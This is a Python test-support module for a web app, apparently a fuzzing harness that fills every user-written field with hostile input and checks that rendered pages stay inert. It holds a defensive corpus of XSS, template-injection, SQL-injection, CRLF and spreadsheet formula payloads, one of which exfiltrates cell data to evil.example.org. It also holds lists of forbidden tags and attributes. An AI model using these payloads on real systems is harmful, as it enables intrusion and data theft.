"""Hostile input: a corpus of payloads, and a space whose every user-written field holds them.

Shared by tests/web/test_hostile_*.py, tests/notifications/test_hostile_*.py,
tests/exports/test_hostile_*.py and tests/browser/test_hostile.py. Everything is seeded
through the services the routes call, so each payload takes the path real input takes.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from functools import partial
from pathlib import Path
from typing import TYPE_CHECKING, TypeVar
from urllib.parse import quote

import pytest
from sqlalchemy import Connection, Engine
from sqlalchemy.orm import Session, sessionmaker

from app.accounts import service as accounts
from app.admin import service as admin
from app.attachments import service as attachments
from app.comments import editing, posting
from app.config import Settings
from app.curation import service as curation
from app.curation.note_templates import section_choices
from app.drafts import service as drafts
from app.models import (
    Comment,
    NearDuplicate,
    ObjectiveSuggestion,
    Space,
    SpaceModerator,
    Theme,
    ThemeMember,
    User,
)
from app.models.analysis import ThemeKind
from app.models.spaces import PostingPolicy
from app.moderation import bans, decisions, flags
from app.notifications import subscriptions
from app.policy import Person, Viewer
from tests.documents import PDF
from tests.factories import PASSWORD as SEED_PASSWORD
from tests.factories import change_settings
from tests.sweep.routes import routes_of

if TYPE_CHECKING:
    from fastapi import FastAPI

# What the payloads try to do when they run: the browser test looks for these.
PWN = "window.__pwned=1"
# 7 * 7777: a template engine that evaluated one of our payloads would print this.
EVALUATED = "54439"

XSS: tuple[str, ...] = (
    f"<script>{PWN}</script>",
    f'"><img src=x onerror="{PWN}">',
    f"'><svg onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>",
    f'" autofocus onfocus="{PWN}" x="',
    f"' onmouseover='{PWN}' x='",
    f"`onerror=`{PWN}",
    f"[click me](javascript:{PWN})",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[spaced](  jAvAsCrIpT:{PWN} )",
    f"<a href='javascript:{PWN}'>raw link</a>",
    "[steal](https://attacker.example.net/steal)",  # an ordinary link: allowed on pages
    f"![pic](javascript:{PWN})",
    '<iframe src="//evil.example.org"></iframe><object data="x"></object><embed src="x">',
    '<base href="//evil.example.org/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example.org">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
    f'<form action="javascript:{PWN}"><button formaction="javascript:{PWN}">go</button></form>',
    "javascript:alert(1)",
    f"</textarea><script>{PWN}</script>",
    f"</title><script>{PWN}</script>",
    f'hx-get="/en/" hx-trigger="load" <div hx-on:click="{PWN}">htmx</div>',
)
TEMPLATE: tuple[str, ...] = (
    "{{7*7}}",
    "{{7*7777}}",
    "{% raw %}{{7*7777}}{% endraw %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7777}",
    "#{7*7777}",
    "<%= 7*7777 %>",
    "%(title)s %s {0}",
)
SQL: tuple[str, ...] = (
    "'; DROP TABLE users;--",
    "%' OR 1=1 --",
    "\\x27 OR \\x271\\x27=\\x271",
    '" OR ""="',
    "_%\\",
)
FORMULA: tuple[str, ...] = (
    '=HYPERLINK("https://evil.example.org/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)
CRLF = "x\r\nBcc: evil@example.org\r\nSubject: injected"
UNICODE: tuple[str, ...] = (
    "\u202eevil\u202c",  # right-to-left override
    "a\u200bb\u200dc\ufeffd",  # zero-width characters
    "Z\u0337\u0322\u031b\u0353e\u0301\u0301\u0301",  # stacked combining marks
    "e\u0301 vs \u00e9",  # NFD and NFC
)
# Refused by the body rules: posted only to check the refusal is clean.
CONTROL: tuple[str, ...] = ("nul\x00byte", "bell\x07 escape\x1b[31m", "c1\x85\x9b")
MARKDOWN_BOMBS: tuple[str, ...] = (
    "> " * 8 + "as deep as the rules allow",
    "[" * 3000,
    "*" * 3000 + "_" * 3000,
    "| a | b |\n|---|---|\n" + "| x | y |\n" * 600,
)
DEEP_BOMB = ">" * 400 + " deeper than the rules allow"
LONG = "A" * 100_000

# Each field gets as much of the corpus as its length rule lets through.
TITLE = f"<script>{PWN}</script>{{{{7*7}}}} {{{{7*7777}}}} \"><img src=x onerror={PWN}> '; --"
NAME_CORE = '"><svg onload=alert(1)>{{7*7777}}'  # display names: 2-60 characters
TAG = "<b>{{7*7777}}</b>\"'><svg onload=alert(1)>"  # tags: 60 characters at most
REASON = f"{XSS[1]} {TEMPLATE[1]} {SQL[0]} {FORMULA[0]} {CRLF}"
FILENAME = f'"><img src=x onerror={PWN}>{{{{7*7777}}}}.pdf'
SEARCH = f"\"><script>{PWN}</script>{{{{7*7777}}}}%' OR 1=1 --"
# With a NUL byte: PostgreSQL refuses it inside any text it is sent, even in a WHERE.
SEARCH_NUL = SEARCH + "\x00"


def body(*extra: str) -> str:
    """A comment body carrying every payload kind (well under the 20,000-character limit)."""
    parts = [*XSS, *TEMPLATE, *SQL, *FORMULA, CRLF, *UNICODE, *extra]
    return "\n\n".join(parts)


_seq = itertools.count(1)


@dataclass
class HostileWorld:
    """Ids of everything seeded, for building URLs and finding what was written."""

    space: Space
    admin: User
    moderator: User
    participant: User
    other: User
    question: Comment
    comment: Comment
    reply: Comment
    bomb: Comment
    hidden: Comment
    pending: Comment  # rejected by a moderator
    waiting: Comment  # still in the moderation queue
    attachment_id: int
    draft_id: int
    ban_id: int
    unsubscribe_token: str
    tag_ids: list[int] = field(default_factory=list)
    theme_id: int = 0

    @property
    def slug(self) -> str:
        return self.space.slug


def _viewer(db: Session, user: User) -> Viewer:
    moderated = frozenset(m.space_id for m in db.query(SpaceModerator).filter_by(user_id=user.id))
    return Viewer(user=Person.of(user), moderated_space_ids=moderated)


def _user(db: Session, role: str, password: str, *, is_admin: bool = False) -> User:
    n = next(_seq)
    user = accounts.register(
        db,
        display_name=f"{NAME_CORE} {role[:3]}{n}",
        email=f"hostile-{role}-{n}@example.org",
        password=password,
        locale="en",
    )
    user.is_admin = is_admin
    db.flush()
    return user


def seed(
    db: Session, *, password: str, upload_dir: Path, secret_key: str, now: datetime
) -> HostileWorld:
    """A space in which every field a person can write carries payloads."""
    adm = _user(db, "admin", password, is_admin=True)
    mod = _user(db, "moderator", password)
    part = _user(db, "participant", password)
    other = _user(db, "other", password)
    for person in (adm, mod, part, other):
        # As if each had followed their verification link: notifications need it.
        person.email_verified_at = now
    admin_viewer = _viewer(db, adm)
    texts = admin.SpaceTexts(
        title={lang: f"{TITLE} {lang}" for lang in ("en", "fr", "es")},
        intro={lang: body(f"Aim ({lang}): {TEMPLATE[1]}") for lang in ("en", "fr", "es")},
    )
    space = admin.create_space(
        db,
        admin_viewer,
        admin.NewSpace(
            slug=f"hostile-{next(_seq)}",
            original_lang="en",
            opens_on=(now - timedelta(days=3)).date().isoformat(),
            closes_on=(now + timedelta(days=30)).date().isoformat(),
            texts=texts,
        ),
        now=now,
    )
    admin.add_moderator(db, admin_viewer, space, mod.email)
    mv, pv, ov = _viewer(db, mod), _viewer(db, part), _viewer(db, other)

    question = posting.ask_question(
        db,
        mv,
        space,
        text=body("Question?"),
        lang="en",
        translations={"fr": body("Question (fr)?"), "es": body("Pregunta (es)?")},
        now=now,
        max_chars=20_000,
    )

    def post(viewer: Viewer, text: str, parent: Comment) -> Comment:
        return posting.submit_comment(
            db, viewer, space, body=text, lang="en", parent_id=parent.id, now=now, max_chars=20_000
        ).comment

    comment = post(pv, body(), question)
    reply = post(ov, body("A reply."), comment)
    bomb = post(pv, "\n\n".join(MARKDOWN_BOMBS), question)
    hidden = post(ov, body("To be hidden."), question)
    change_settings(db, admin_viewer, space, now, posting_policy=PostingPolicy.PRE_MODERATION)
    pending = post(ov, body("To be rejected."), question)
    waiting = post(pv, body("Awaiting review."), question)
    change_settings(db, admin_viewer, space, now, posting_policy=PostingPolicy.POST_MODERATION)
    for lang in ("fr", "es"):
        editing.save_translation(
            db, pv, comment, space, lang=lang, body=body(f"({lang})"), now=now, max_chars=20_000
        )
    paper = attachments.attach(
        db,
        pv,
        comment,
        space,
        data=PDF,
        filename=FILENAME,
        upload_dir=upload_dir,
        max_bytes=10_000_000,
        now=now,
    )

    tag = curation.add_tag(db, mv, comment, label=TAG, now=now)
    curation.set_state(db, mv, comment, state="excluded", reason=REASON, now=now)
    passage = " ".join(XSS[1].split())
    excerpt = curation.mark_excerpt(
        db, mv, comment, lang="en", passage=passage, start=None, now=now
    )
    curation.assign(
        db, mv, comment, section=section_choices("en")[0][0], excerpt_id=excerpt.id, now=now
    )

    draft = drafts.create_draft(
        db, mv, space, template="background-note", lang="en", title=TITLE, now=now
    )
    spec = drafts.template_of(draft)
    drafts.save(
        db,
        mv,
        draft,
        base_version=draft.version,
        title=TITLE,
        sections={
            s.key: f"{body()}\n\n## {TITLE} [c:{comment.id}]\n- {FORMULA[0]} [e:{excerpt.id}]"
            for s in spec.sections
        },
        now=now,
    )

    flags.flag(db, pv, reply, space, reason="other", details=REASON, now=now)
    decisions.hide(db, mv, hidden, reason=REASON, now=now)
    decisions.reject(db, mv, pending, reason=REASON, now=now)
    ban = bans.ban(
        db,
        mv,
        bans.BanRequest(
            user_id=other.id, space_id=space.id, reason=REASON, ends_at=now + timedelta(days=9)
        ),
        now=now,
    )
    subscriptions.follow(db, part.id, space.id, now)
    theme = _themes(db, space, question, comment, reply, hidden)
    db.flush()
    return HostileWorld(
        space=space,
        admin=adm,
        moderator=mod,
        participant=part,
        other=other,
        question=question,
        comment=comment,
        reply=reply,
        bomb=bomb,
        hidden=hidden,
        pending=pending,
        waiting=waiting,
        attachment_id=paper.id,
        draft_id=draft.id,
        ban_id=ban.id,
        unsubscribe_token=subscriptions.make_token(secret_key, part.id, "reply"),
        tag_ids=[tag.id],
        theme_id=theme.id,
    )


def _themes(
    db: Session, space: Space, question: Comment, comment: Comment, reply: Comment, hidden: Comment
) -> Theme:
    """What the synthesis worker would leave, written directly (the sweep checks display,
    not grouping): a theme named and labelled with payloads, its passage in the hostile
    comment, a near-duplicate pair and a suggested objective."""
    number = int(question.path[1:11])
    theme = Theme(
        space_id=space.id,
        question_number=number,
        kind=ThemeKind.THEME,
        name=TITLE[:120],
        labels={lang: TAG for lang in ("en", "fr", "es")},
        passages=[
            {
                "comment_id": comment.id,
                "text_key": "",
                "lang": comment.lang,
                "start": 0,
                "end": 40,
                "comment_version": comment.version,
                "score": 0.9,
            }
        ],
    )
    other = Theme(
        space_id=space.id, question_number=number, kind=ThemeKind.THEME, name="", labels={"en": TAG}
    )
    db.add_all([theme, other])
    db.flush()
    db.add_all(
        [
            ThemeMember(comment_id=comment.id, theme_id=theme.id, pinned=False),
            ThemeMember(comment_id=reply.id, theme_id=other.id, pinned=False),
            ThemeMember(comment_id=hidden.id, theme_id=theme.id, pinned=False),
            NearDuplicate(
                comment_id=comment.id, space_id=space.id, group_id=comment.id, similarity=0.99
            ),
            NearDuplicate(
                comment_id=reply.id, space_id=space.id, group_id=comment.id, similarity=0.99
            ),
            ObjectiveSuggestion(comment_id=comment.id, code=20, confidence=0.9),
        ]
    )
    return theme


# --- What "inert" means for a response ---------------------------------------------------

_URL_ATTRIBUTES = (
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "poster",
    "data",
    "srcdoc",
    "hx-get",
    "hx-post",
    "hx-put",
    "hx-patch",
    "hx-delete",
)
# htmx attributes whose value is run or parsed as code by htmx itself.
_SCRIPTED = ("hx-on", "data-hx-on", "hx-vals", "hx-vars", "hx-headers", "hx-trigger")
_FORBIDDEN_TAGS = ("iframe", "object", "embed", "base", "frame", "frameset", "applet")


def _scheme(url: str) -> str:
    # Browsers ignore white space and control characters inside a scheme.
    squeezed = "".join(ch for ch in url if ch > " ").lower()
    return squeezed.partition(":")[0] if ":" in squeezed.split("/", 1)[0] else ""


def _attribute_problem(name: str, value: str) -> bool:
    lowered = name.lower()
    if lowered.startswith("on"):
        return True
    if lowered in _URL_ATTRIBUTES:
        squeezed = "".join(ch for ch in value if ch > " ").lower()
        # Our own addresses may carry a payload in their query, percent-encoded: inert.
        local = squeezed.startswith("#") or (squeezed.startswith("/") and squeezed[1:2] != "/")
        off_site = not local and "://" in squeezed.split("?", 1)[0]
        return _scheme(value) in ("javascript", "data", "vbscript") or (
            off_site and "evil.example" in squeezed
        )
    if lowered.startswith(_SCRIPTED):
        return "__pwned" in value or "alert(" in value or "javascript:" in value.lower()
    return False


def markup_problems(markup: str) -> list[str]:
    """Everything in this HTML that a payload could have turned into live markup."""
    from tests.html import parse

    tree = parse(markup)
    found: list[str] = []
    for script in tree.css("script"):
        src = script.attributes.get("src") or ""
        if not src.startswith("/static/") or script.text().strip():
            found.append(f"script {script.html[:120]!r}")
    for tag in _FORBIDDEN_TAGS:
        found += [f"<{tag}>" for _ in tree.css(tag)]
    found += [f"meta http-equiv {m.html!r}" for m in tree.css("meta[http-equiv]")]
    for node in tree.css("*"):
        found += [
            f"{node.tag} {name}={(value or '')[:80]!r}"
            for name, value in node.attributes.items()
            if _attribute_problem(name, value or "")
        ]
    if EVALUATED in (tree.body.text() if tree.body else markup):
        found.append(f"a template evaluated a payload ({EVALUATED})")
    return found


# --- Every route, and the concrete addresses that exercise it ----------------------------


def app_routes(app: object) -> list[tuple[str, frozenset[str]]]:
    """(path, methods) of every route, including those of included routers."""
    from fastapi.routing import _IncludedRouter  # routers are kept nested since FastAPI 0.16x

    def walk(routes: list[object], prefix: str) -> list[tuple[str, frozenset[str]]]:
        found: list[tuple[str, frozenset[str]]] = []
        for route in routes:
            if isinstance(route, _IncludedRouter):
                nested = route.include_context.prefix
                found += walk(list(route.original_router.routes), prefix + nested)
            elif hasattr(route, "path"):
                methods = frozenset(getattr(route, "methods", None) or ())
                found.append((prefix + route.path, methods))
        return found

    return walk(list(app.routes), "")  # type: ignore[attr-defined]


def q(value: str) -> str:
    return quote(value, safe="")


HOSTILE_ID = "<script>alert(1)</script>'--"


def get_urls(w: HostileWorld, lang: str) -> dict[str, list[str]]:
    """GET addresses for each route path; a route missing here fails the page suite."""
    s = w.slug
    c = w.comment.id
    comment_ids = [w.question.id, c, w.reply.id, w.bomb.id, w.hidden.id, w.pending.id, w.waiting.id]
    per_comment = lambda tail: [f"/{lang}/comments/{i}{tail}" for i in (w.question.id, c)]  # noqa: E731
    return {
        "/api/openapi.json": ["/api/openapi.json"],
        "/static": ["/static/roundtable.css"],
        "/healthz": ["/healthz"],
        "/readyz": ["/readyz"],
        "/api/v1/spaces": ["/api/v1/spaces"],
        "/api/v1/spaces/{slug}/comments": [
            f"/api/v1/spaces/{s}/comments",
            f"/api/v1/spaces/{s}/comments?after={q(SEARCH_NUL)}",
        ],
        "/api/v1/search": [f"/api/v1/search?q={q(SEARCH_NUL)}", "/api/v1/search?q=window+pwned"],
        "/": ["/"],
        "/{lang}/": [f"/{lang}/"],
        "/{lang}/search": [
            # Words of the hostile texts, so their snippets are drawn; then hostile asks.
            f"/{lang}/search?q=window+pwned",
            f"/{lang}/search?q=script&sort=newest&status=hidden&tag={q(TAG)}",
            f"/{lang}/search?q={q(SEARCH_NUL)}&space={q(SEARCH_NUL)}&from={q(SEARCH_NUL)}"
            f"&sort={q(SEARCH_NUL)}&page={q(SEARCH_NUL)}&language={q(SEARCH_NUL)}",
            f"/{lang}/search?q={q(LONG[:10_000])}",
        ],
        "/{lang}/spaces/{slug}": [
            f"/{lang}/spaces/{s}",
            f"/{lang}/spaces/{s}?after={q(SEARCH_NUL)}",
        ],
        "/{lang}/register": [f"/{lang}/register?next={q('javascript:' + PWN)}"],
        "/{lang}/sign-in": [f"/{lang}/sign-in?next={q(SEARCH_NUL)}"],
        "/{lang}/account/sessions": [f"/{lang}/account/sessions"],
        "/{lang}/account/password": [f"/{lang}/account/password"],
        "/{lang}/account/password/changed": [f"/{lang}/account/password/changed"],
        "/{lang}/password/forgot": [f"/{lang}/password/forgot?email={q(SEARCH_NUL)}"],
        "/{lang}/password/reset/{token}": [f"/{lang}/password/reset/{q(HOSTILE_ID)}"],
        "/{lang}/email/verify/{token}": [f"/{lang}/email/verify/{q(HOSTILE_ID)}"],
        "/{lang}/email/verified": [f"/{lang}/email/verified?next={q(SEARCH_NUL)}"],
        "/{lang}/comments/{comment_id}": [
            *(f"/{lang}/comments/{i}" for i in comment_ids),
            f"/{lang}/comments/{c}?v=fr&posted={w.reply.id}",
            f"/{lang}/comments/{c}?v={q(SEARCH_NUL)}&after={q(SEARCH_NUL)}",
        ],
        "/{lang}/comments/{comment_id}/reply": per_comment("/reply"),
        "/{lang}/comments/{comment_id}/edit": per_comment("/edit"),
        "/{lang}/comments/{comment_id}/translate": [
            *per_comment("/translate"),
            f"/{lang}/comments/{c}/translate?to={q(SEARCH_NUL)}",
        ],
        "/{lang}/comments/{comment_id}/history": per_comment("/history"),
        "/{lang}/language-select": [
            f"/{lang}/language-select?form_id={q(SEARCH_NUL)}&pick={q(SEARCH_NUL)}"
        ],
        "/{lang}/attachments/{attachment_id}": [f"/{lang}/attachments/{w.attachment_id}"],
        "/{lang}/comments/{comment_id}/report": [f"/{lang}/comments/{w.reply.id}/report"],
        "/{lang}/comments/{comment_id}/moderate": [
            f"/{lang}/comments/{i}/moderate?done={q(SEARCH_NUL)}"
            for i in (c, w.hidden.id, w.waiting.id)
        ],
        "/{lang}/moderation": [f"/{lang}/moderation?done={q(SEARCH_NUL)}"],
        "/{lang}/spaces/{slug}/moderation": [
            f"/{lang}/spaces/{s}/moderation",
            f"/{lang}/spaces/{s}/moderation?show={q(SEARCH_NUL)}",
        ],
        "/{lang}/spaces/{slug}/audit": [f"/{lang}/spaces/{s}/audit?action={q(SEARCH_NUL)}"],
        "/{lang}/admin/audit": [f"/{lang}/admin/audit?action={q(SEARCH_NUL)}"],
        "/{lang}/spaces/{slug}/transparency": [f"/{lang}/spaces/{s}/transparency"],
        "/{lang}/admin/": [f"/{lang}/admin/"],
        "/{lang}/admin/spaces/{slug}": [f"/{lang}/admin/spaces/{s}"],
        "/{lang}/admin/users": [f"/{lang}/admin/users", f"/{lang}/admin/users?q={q(SEARCH_NUL)}"],
        "/{lang}/spaces/{slug}/settings": [f"/{lang}/spaces/{s}/settings"],
        "/{lang}/unsubscribe/{token}": [
            f"/{lang}/unsubscribe/{w.unsubscribe_token}",
            f"/{lang}/unsubscribe/{q(HOSTILE_ID)}",
        ],
        "/{lang}/comments/{comment_id}/curate": per_comment("/curate"),
        "/{lang}/spaces/{slug}/drafts": [f"/{lang}/spaces/{s}/drafts"],
        "/{lang}/drafts/{draft_id}": [f"/{lang}/drafts/{w.draft_id}"],
        "/{lang}/drafts/{draft_id}/history": [f"/{lang}/drafts/{w.draft_id}/history"],
        "/{lang}/drafts/{draft_id}/export.{fmt}": [
            f"/{lang}/drafts/{w.draft_id}/export.md",
            f"/{lang}/drafts/{w.draft_id}/export.{q(HOSTILE_ID)}",
        ],
        "/{lang}/drafts/{draft_id}/versions/{version}": [
            f"/{lang}/drafts/{w.draft_id}/versions/1",
            f"/{lang}/drafts/{w.draft_id}/versions/{q(HOSTILE_ID)}",
        ],
        "/{lang}/drafts/{draft_id}/compare": [
            f"/{lang}/drafts/{w.draft_id}/compare?old=1&new={q(HOSTILE_ID)}"
        ],
        "/{lang}/drafts/{draft_id}/versions/{version}/export.{fmt}": [
            f"/{lang}/drafts/{w.draft_id}/versions/1/export.md",
            f"/{lang}/drafts/{w.draft_id}/versions/{q(HOSTILE_ID)}/export.{q(HOSTILE_ID)}",
        ],
        "/{lang}/drafts/{draft_id}/jobs/{job_id}": [
            f"/{lang}/drafts/{w.draft_id}/jobs/{q(HOSTILE_ID)}"
        ],
        "/{lang}/drafts/{draft_id}/jobs/{job_id}/file": [
            f"/{lang}/drafts/{w.draft_id}/jobs/{'A' * 24}/file"
        ],
        "/{lang}/admin/spaces/{slug}/export.json": [f"/{lang}/admin/spaces/{s}/export.json"],
        "/{lang}/admin/spaces/{slug}/export.zip": [f"/{lang}/admin/spaces/{s}/export.zip"],
        "/{lang}/admin/import": [f"/{lang}/admin/import"],
        "/{lang}/spaces/{slug}/digest": [f"/{lang}/spaces/{s}/digest?question={q(SEARCH_NUL)}"],
        "/{lang}/spaces/{slug}/digest.{fmt}": [
            f"/{lang}/spaces/{s}/digest.{fmt}" for fmt in ("md", "csv", "json", q(HOSTILE_ID))
        ],
        "/{lang}/spaces/{slug}/digest/jobs/{job_id}": [
            f"/{lang}/spaces/{s}/digest/jobs/{q(HOSTILE_ID)}"
        ],
        "/{lang}/spaces/{slug}/digest/jobs/{job_id}/file": [
            f"/{lang}/spaces/{s}/digest/jobs/{'A' * 24}/file"
        ],
        "/{lang}/spaces/{slug}/themes": [
            f"/{lang}/spaces/{s}/themes",
            f"/{lang}/spaces/{s}/themes?question={q(SEARCH_NUL)}",
        ],
        "/{lang}/spaces/{slug}/near-duplicates": [f"/{lang}/spaces/{s}/near-duplicates"],
        "/{lang}/themes/{theme_id}": [
            f"/{lang}/themes/{w.theme_id}",
            f"/{lang}/themes/{q(HOSTILE_ID)}",
        ],
        "/{lang}/drafts/{draft_id}/workbench": [
            f"/{lang}/drafts/{w.draft_id}/workbench",
            f"/{lang}/drafts/{w.draft_id}/workbench?q=window+pwned&theme={w.theme_id}",
            f"/{lang}/drafts/{w.draft_id}/workbench?question={q(SEARCH_NUL)}&theme={q(SEARCH_NUL)}"
            f"&objective={q(SEARCH_NUL)}&language={q(SEARCH_NUL)}&state={q(SEARCH_NUL)}"
            f"&q={q(SEARCH_NUL)}&page={q(SEARCH_NUL)}",
        ],
        "/{lang}/drafts/{draft_id}/unheard": [f"/{lang}/drafts/{w.draft_id}/unheard"],
    }


def form_fields(app: FastAPI) -> dict[str, dict[str, str]]:
    """For each POST route: its form fields and their kinds (str, int, bool, file, list).

    Read from the endpoints' signatures, so a new field is fuzzed without being listed.
    """
    return {route.path: route.form for route in routes_of(app) if "POST" in route.methods}


@dataclass(frozen=True)
class PostCase:
    url: str
    role: str  # who submits: the one the route is meant for, so checks run past permission
    extra: dict[str, str] = field(default_factory=dict)  # fields no signature names


def post_cases(w: HostileWorld, lang: str) -> dict[str, PostCase]:
    """One submission target for each POST route path; a route missing here fails."""
    s, c = w.slug, w.comment.id
    sections = {
        f"section_{key}": body() for key in ("background", "objectives", "guiding-questions")
    }
    return {
        "/api/v1/spaces/{slug}/comments": PostCase(f"/api/v1/spaces/{s}/comments", "participant"),
        "/{lang}/register": PostCase(f"/{lang}/register", "anonymous"),
        "/{lang}/sign-in": PostCase(f"/{lang}/sign-in", "anonymous"),
        "/{lang}/account/sessions/end": PostCase(f"/{lang}/account/sessions/end", "participant"),
        "/{lang}/sign-out": PostCase(f"/{lang}/sign-out", "participant"),
        "/{lang}/account/password": PostCase(f"/{lang}/account/password", "participant"),
        "/{lang}/password/forgot": PostCase(f"/{lang}/password/forgot", "anonymous"),
        "/{lang}/password/reset/{token}": PostCase(
            f"/{lang}/password/reset/{q(HOSTILE_ID)}", "anonymous"
        ),
        "/{lang}/email/verify/{token}": PostCase(
            f"/{lang}/email/verify/{q(HOSTILE_ID)}", "anonymous"
        ),
        "/{lang}/email/verify": PostCase(f"/{lang}/email/verify", "participant"),
        "/{lang}/spaces/{slug}/comments": PostCase(f"/{lang}/spaces/{s}/comments", "participant"),
        "/{lang}/comments/{comment_id}/edit": PostCase(f"/{lang}/comments/{c}/edit", "participant"),
        "/{lang}/comments/{comment_id}/translate": PostCase(
            f"/{lang}/comments/{c}/translate", "participant"
        ),
        "/{lang}/language-hint": PostCase(f"/{lang}/language-hint", "participant"),
        "/{lang}/comments/{comment_id}/report": PostCase(
            f"/{lang}/comments/{w.question.id}/report", "participant"
        ),
        "/{lang}/comments/{comment_id}/moderate": PostCase(
            f"/{lang}/comments/{c}/moderate", "moderator"
        ),
        "/{lang}/comments/{comment_id}/ban": PostCase(f"/{lang}/comments/{c}/ban", "moderator"),
        "/{lang}/bans/{ban_id}/lift": PostCase(f"/{lang}/bans/{w.ban_id}/lift", "moderator"),
        "/{lang}/spaces/{slug}/moderation": PostCase(f"/{lang}/spaces/{s}/moderation", "moderator"),
        "/{lang}/admin/spaces": PostCase(f"/{lang}/admin/spaces", "admin"),
        "/{lang}/admin/spaces/{slug}": PostCase(f"/{lang}/admin/spaces/{s}", "admin"),
        "/{lang}/admin/spaces/{slug}/moderators": PostCase(
            f"/{lang}/admin/spaces/{s}/moderators", "admin"
        ),
        "/{lang}/admin/spaces/{slug}/moderators/{user_id}/remove": PostCase(
            f"/{lang}/admin/spaces/{s}/moderators/{w.other.id}/remove", "admin"
        ),
        "/{lang}/admin/users/{user_id}/role": PostCase(
            f"/{lang}/admin/users/{w.other.id}/role", "admin"
        ),
        "/{lang}/admin/users/{user_id}/ban": PostCase(
            f"/{lang}/admin/users/{w.other.id}/ban", "admin"
        ),
        "/{lang}/spaces/{slug}/settings": PostCase(f"/{lang}/spaces/{s}/settings", "moderator"),
        "/{lang}/spaces/{slug}/close": PostCase(f"/{lang}/spaces/{s}/close", "moderator"),
        "/{lang}/unsubscribe/{token}": PostCase(
            f"/{lang}/unsubscribe/{w.unsubscribe_token}", "anonymous"
        ),
        "/{lang}/spaces/{slug}/follow": PostCase(f"/{lang}/spaces/{s}/follow", "participant"),
        "/{lang}/spaces/{slug}/unfollow": PostCase(f"/{lang}/spaces/{s}/unfollow", "participant"),
        "/{lang}/comments/{comment_id}/curate": PostCase(
            f"/{lang}/comments/{c}/curate", "moderator"
        ),
        "/{lang}/spaces/{slug}/drafts": PostCase(f"/{lang}/spaces/{s}/drafts", "moderator"),
        "/{lang}/drafts/{draft_id}": PostCase(
            f"/{lang}/drafts/{w.draft_id}", "moderator", sections
        ),
        "/{lang}/drafts/{draft_id}/state": PostCase(
            f"/{lang}/drafts/{w.draft_id}/state", "moderator"
        ),
        "/{lang}/drafts/{draft_id}/words": PostCase(
            f"/{lang}/drafts/{w.draft_id}/words", "moderator", sections
        ),
        "/{lang}/admin/import": PostCase(f"/{lang}/admin/import", "admin"),
        "/{lang}/spaces/{slug}/themes/recompute": PostCase(
            f"/{lang}/spaces/{s}/themes/recompute", "moderator"
        ),
        **{
            f"/{{lang}}/themes/{{theme_id}}/{action}": PostCase(
                f"/{lang}/themes/{w.theme_id}/{action}", "moderator"
            )
            for action in ("rename", "merge", "split", "move", "keep", "assign")
        },
        "/{lang}/comments/{comment_id}/suggestions": PostCase(
            f"/{lang}/comments/{c}/suggestions", "moderator"
        ),
        "/{lang}/drafts/{draft_id}/workbench": PostCase(
            f"/{lang}/drafts/{w.draft_id}/workbench", "moderator", sections
        ),
        "/{lang}/drafts/{draft_id}/workbench/cite": PostCase(
            f"/{lang}/drafts/{w.draft_id}/workbench/cite", "moderator", sections
        ),
    }


# --- One seeding per test module ----------------------------------------------------------


W = TypeVar("W")


@contextmanager
def world_on_connection(
    engine: Engine, data_dir: Path, build: Callable[..., W]
) -> Iterator[tuple[Connection, W]]:
    """A connection holding the world `build` makes in an open transaction, rolled back at the end.

    Building takes a second or more; a module builds once, and each test runs inside a
    SAVEPOINT of its own on this connection (see `savepoint`), so tests stay independent.
    `build` gets the session and the site's upload directory, secret key and clock.
    """
    connection = engine.connect()
    outer = connection.begin()
    factory = sessionmaker(
        bind=connection, expire_on_commit=False, join_transaction_mode="create_savepoint"
    )
    settings = Settings(data_dir=data_dir, database_url=str(engine.url))
    try:
        with factory() as db:
            world = build(
                db,
                upload_dir=settings.upload_dir,
                secret_key=settings.resolved_secret_key,
                now=datetime.now(UTC),
            )
            db.commit()  # releases the session's SAVEPOINT: the outer transaction keeps it
        yield connection, world
    finally:
        outer.rollback()
        connection.close()


def seeded_connection(
    engine: Engine, data_dir: Path
) -> AbstractContextManager[tuple[Connection, HostileWorld]]:
    """The hostile world (`seed`) on a connection of its own, as `world_on_connection` gives it."""
    return world_on_connection(engine, data_dir, partial(seed, password=SEED_PASSWORD))


@contextmanager
def savepoint(connection: Connection) -> Iterator[Connection]:
    nested = connection.begin_nested()
    try:
        yield connection
    finally:
        if nested.is_active:
            nested.rollback()


# Fixtures for the hostile test modules, which import them: one seeding per module, one
# SAVEPOINT per test (they replace tests/conftest.py's `connection`, `settings` and add
# `world`).


@pytest.fixture(scope="module")
def hostile_seeded(
    engine: Engine, cheap_password_hashing: None, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Connection, HostileWorld, Path]]:
    data_dir = tmp_path_factory.mktemp("hostile")
    with seeded_connection(engine, data_dir) as (connection, world):
        yield connection, world, data_dir


@pytest.fixture
def connection(hostile_seeded: tuple[Connection, HostileWorld, Path]) -> Iterator[Connection]:
    with savepoint(hostile_seeded[0]) as conn:
        yield conn


@pytest.fixture
def world(hostile_seeded: tuple[Connection, HostileWorld, Path]) -> HostileWorld:
    return hostile_seeded[1]


@pytest.fixture
def settings(hostile_seeded: tuple[Connection, HostileWorld, Path], database_url: str) -> Settings:
    # Small request limits, so the oversize cases stay cheap.
    return Settings(
        data_dir=hostile_seeded[2],
        database_url=database_url,
        page_comments=20,
        rate_limits=False,
        max_request_bytes=256_000,
        max_upload_bytes=100_000,
    )


def id_routes(app: object) -> list[tuple[str, frozenset[str], tuple[str, ...]]]:
    """(path, methods, names of its integer path parameters) of every such route.

    Read from the endpoints' signatures (their dependencies included), so a route added
    later with an id in its address is checked without being listed.
    """
    from fastapi.dependencies.models import Dependant
    from fastapi.routing import APIRoute, _IncludedRouter

    def params(dependant: Dependant) -> Iterator[str]:
        for param in dependant.path_params:
            if "int" in str(param.field_info.annotation):
                yield param.name
        for sub in dependant.dependencies:
            yield from params(sub)

    def walk(routes: list[object], prefix: str) -> Iterator[tuple[str, APIRoute]]:
        for route in routes:
